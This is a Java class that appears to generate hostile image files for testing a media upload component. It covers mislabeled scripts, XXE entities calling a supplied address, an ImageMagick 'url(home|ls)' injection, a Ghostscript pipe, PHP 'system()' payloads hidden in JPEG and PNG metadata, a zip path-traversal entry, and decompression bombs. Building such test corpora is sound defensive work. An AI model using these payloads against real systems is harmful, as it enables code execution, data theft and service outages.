package org.duta.ejb.media;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Pictures, and what calls itself one, made to harm whoever opens or serves them. */
final class HostilePictures extends HostileFiles {

    private static final int SIDE = 400;
    private static final byte[] PNG_HEAD = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};

    private HostilePictures(String home) {
        super(home, good());
    }

    /**
     * @param home an address that those which can try to reach
     */
    static List<Hostile> callingTo(String home) {
        HostilePictures pictures = new HostilePictures(home);
        pictures.liars();
        pictures.polyglots();
        pictures.bombs();
        pictures.damage(17, 20);
        return pictures.all();
    }

    /** A small one of each kind that Java writes, by ending. */
    static Map<String, byte[]> good() {
        Map<String, byte[]> good = new LinkedHashMap<>();
        for (String kind : List.of("jpg", "png", "gif")) {
            good.put(kind, picture(kind));
        }
        return good;
    }

    private void liars() {
        add(
                "a-drawing-with-a-script.jpg",
                text("<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + "</svg>"));
        add(
                "a-drawing-with-entities.png",
                text(
                        "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY e SYSTEM '"
                                + home
                                + "'>]><svg xmlns='http://www.w3.org/2000/svg'><image href='"
                                + home
                                + "'/>&e;</svg>"));
        add("a-packed-drawing.png", deflated(text("<svg xmlns='http://www.w3.org/2000/svg'/>")));
        add("a-page.png", text("<!DOCTYPE html><html><body>" + SCRIPT));
        add("a-page-after-blanks.jpg", text(" ".repeat(2_000) + "<!DOCTYPE html><html>" + SCRIPT));
        add("a-program.gif", new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0}, new byte[99]);
        add("a-windows-program.jpg", text("MZ"), new byte[99]);
        add("a-shell-script.png", text("#!/bin/sh\necho " + PAYLOAD + "\n"));
        add("a-php-script.jpg", text("<?php echo '" + PAYLOAD + "';"));
        add("an-archive.jpg", zip());
        add("a-pdf.png", text("%PDF-1.7\n"), new byte[99]);
        add("postscript.jpg", text("%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"));
        add(
                "imagemagick-commands.jpg",
                text("push graphic-context\nfill 'url(" + home + "|ls)'\n"));
        add("a-photoshop-file.jpg", text("8BPS\0\1"), new byte[99]);
        add("a-tiff.jpg", text("II*\0\b\0\0\0"), new byte[99]);
        add("a-bitmap.png", text("BM"), new byte[99]);
        add("an-icon.png", new byte[] {0, 0, 1, 0, 1, 0, 16, 16}, new byte[99]);
        add("a-film.jpg", text("\0\0\0\u0018ftypmp42\0\0\0\0mp42isom"), new byte[99]);
        add("a-sound.gif", text("ID3\3\0\0\0\0\0\0"), new byte[99]);
        add("nothing.jpg");
        add("one-byte.png", new byte[] {(byte) 0x89});
        add("zeros.gif", new byte[4_096]);
    }

    private void polyglots() {
        for (String kind : List.of("jpg", "png", "gif")) {
            add("an-archive-after-it." + kind, of(kind), zip());
            add("a-page-after-it." + kind, of(kind), text("<html>" + SCRIPT));
            add("a-pdf-after-it." + kind, of(kind), text("%PDF-1.7\n" + PAYLOAD));
        }
        byte[] jpeg = of("jpg");
        add(
                "a-script-in-its-comment.jpg",
                Arrays.copyOf(jpeg, 2),
                segment(0xFE, text("<?php system('" + PAYLOAD + "'); ?>" + SCRIPT)),
                Arrays.copyOfRange(jpeg, 2, jpeg.length));
        add(
                "entities-in-its-xmp.jpg",
                Arrays.copyOf(jpeg, 2),
                segment(
                        0xE1,
                        text(
                                "http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY e SYSTEM '"
                                        + home
                                        + "'>]><x:xmpmeta xmlns:x='adobe:ns:meta/'>&e;"
                                        + PAYLOAD
                                        + "</x:xmpmeta>")),
                Arrays.copyOfRange(jpeg, 2, jpeg.length));
        add(
                "exif-that-points-at-itself.jpg",
                Arrays.copyOf(jpeg, 2),
                segment(
                        0xE1,
                        text(
                                "Exif\0\0II*\0\b\0\0\0\1\0\u0069\u0087\4\0\1\0\0\0\b\0\0\0\b\0\0\0"
                                        + PAYLOAD)),
                Arrays.copyOfRange(jpeg, 2, jpeg.length));
        byte[] png = of("png");
        int afterHead = PNG_HEAD.length + 25;
        add(
                "a-script-in-its-text.png",
                Arrays.copyOf(png, afterHead),
                chunk("tEXt", text("Comment\0" + SCRIPT)),
                Arrays.copyOfRange(png, afterHead, png.length));
        add(
                "a-script-for-a-head.gif",
                text("GIF89a/*"),
                new byte[20],
                text("*/='" + PAYLOAD + "';alert(1)"));
    }

    private void bombs() {
        add("sixty-thousand-square.png", PNG_HEAD, header(60_000, 60_000), zeros(), end());
        add("a-hundred-megapixels.png", PNG_HEAD, header(10_000, 10_000), zeros(), end());
        add("two-billion-wide.png", PNG_HEAD, header(Integer.MAX_VALUE, 1), zeros(), end());
        add("no-width.png", PNG_HEAD, header(0, 10), zeros(), end());
        add("a-line-of-forty-million.png", PNG_HEAD, header(40_000_000, 1), zeros(), end());
        add(
                "a-gigabyte-of-text.png",
                PNG_HEAD,
                header(1, 1),
                chunk("zTXt", joined(text("c\0\0"), deflatedZeros(1_024))),
                zeros(),
                end());
        add(
                "a-gigabyte-of-colours.png",
                PNG_HEAD,
                header(1, 1),
                chunk("iCCP", joined(text("c\0\0"), deflatedZeros(1_024))),
                zeros(),
                end());
        add(
                "a-chunk-of-four-gigabytes.png",
                PNG_HEAD,
                new byte[] {-1, -1, -1, -1},
                text("IHDR"),
                new byte[50]);
        byte[] gif = of("gif").clone();
        Arrays.fill(gif, 6, 10, (byte) 0xFF);
        add("sixty-five-thousand-square.gif", gif);
        add("ten-thousand-frames.gif", frames());
        byte[] jpeg = of("jpg").clone();
        int frame = frameHeader(jpeg);
        Arrays.fill(jpeg, frame + 5, frame + 9, (byte) 0xFF);
        add("sixty-five-thousand-square.jpg", jpeg);
        add(
                "sixteen-thousand-square.webp",
                text("RIFF\u0020\0\0\0WEBPVP8X\n\0\0\0\0\0\0\0"),
                new byte[] {-1, 0x3F, 0, -1, 0x3F, 0},
                text("VP8 \0\0\0\0"));
        add("a-head-and-no-body.heic", text("\0\0\0\u0018ftypheic\0\0\0\0mif1heic"));
    }

    private static byte[] picture(String kind) {
        BufferedImage image = new BufferedImage(SIDE, SIDE, BufferedImage.TYPE_INT_RGB);
        Graphics2D pen = image.createGraphics();
        for (int i = 0; i < SIDE; i += 8) {
            pen.setColor(new Color(i * 255 / SIDE, 90, 255 - i * 255 / SIDE));
            pen.fillRect(i, 0, 8, SIDE);
        }
        pen.dispose();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try {
            ImageIO.write(image, kind, bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** Where the marker of a JPEG's frame begins; its height is five bytes on, then its width. */
    private static int frameHeader(byte[] jpeg) {
        int at = 2;
        while ((jpeg[at + 1] & 0xFF) != 0xC0) {
            at += 2 + ((jpeg[at + 2] & 0xFF) << 8) + (jpeg[at + 3] & 0xFF);
        }
        return at;
    }

    private static byte[] segment(int marker, byte[] content) {
        int length = content.length + 2;
        return joined(new byte[] {-1, (byte) marker, (byte) (length >> 8), (byte) length}, content);
    }

    private static byte[] frames() {
        byte[] head = text("GIF89a\1\0\1\0\0\0\0");
        byte[] frame = {0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x4C, 1, 0};
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(head);
        for (int i = 0; i < 10_000; i++) {
            bytes.writeBytes(frame);
        }
        bytes.write(0x3B);
        return bytes.toByteArray();
    }

    private static byte[] header(int width, int height) {
        return chunk(
                "IHDR",
                ByteBuffer.allocate(13)
                        .putInt(width)
                        .putInt(height)
                        .put(new byte[] {8, 2, 0, 0, 0})
                        .array());
    }

    private static byte[] zeros() {
        return chunk("IDAT", deflatedZeros(1));
    }

    private static byte[] end() {
        return chunk("IEND", new byte[0]);
    }

    /** RFC 2083, section 3.2. */
    private static byte[] chunk(String type, byte[] content) {
        byte[] named = joined(text(type), content);
        CRC32 crc = new CRC32();
        crc.update(named);
        return ByteBuffer.allocate(named.length + 8)
                .putInt(content.length)
                .put(named)
                .putInt((int) crc.getValue())
                .array();
    }

    private static byte[] deflatedZeros(int megabytes) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream out =
                new DeflaterOutputStream(packed, new Deflater(Deflater.BEST_SPEED))) {
            byte[] piece = new byte[1 << 20];
            for (int i = 0; i < megabytes; i++) {
                out.write(piece);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    private static byte[] deflated(byte[] bytes) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(packed)) {
            out.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    private static byte[] zip() {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(packed)) {
            zip.putNextEntry(new ZipEntry("../../" + PAYLOAD));
            zip.write(text(PAYLOAD));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }
}
